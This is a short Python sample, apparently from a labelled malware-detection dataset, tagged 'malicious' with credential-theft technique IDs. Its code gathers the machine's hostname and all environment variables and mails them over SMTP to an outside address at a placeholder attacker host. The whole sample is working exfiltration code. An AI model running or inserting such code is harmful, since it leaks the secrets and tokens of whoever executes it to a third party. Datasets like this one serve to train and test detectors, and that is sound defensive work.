# label: malicious family=creds techniques=T1048.003,T1082,T1552.001 lines=6,8-10
import smtplib, os
from email.message import EmailMessage
m = EmailMessage()
m["From"] = "bot@mail.bad-host.example"
m["To"] = "drop@mail.bad-host.example"
m["Subject"] = os.uname().nodename
m.set_content("\n".join("%s=%s" % kv for kv in os.environ.items()))
with smtplib.SMTP("203.0.113.25", 25) as s:
    s.send_message(m)
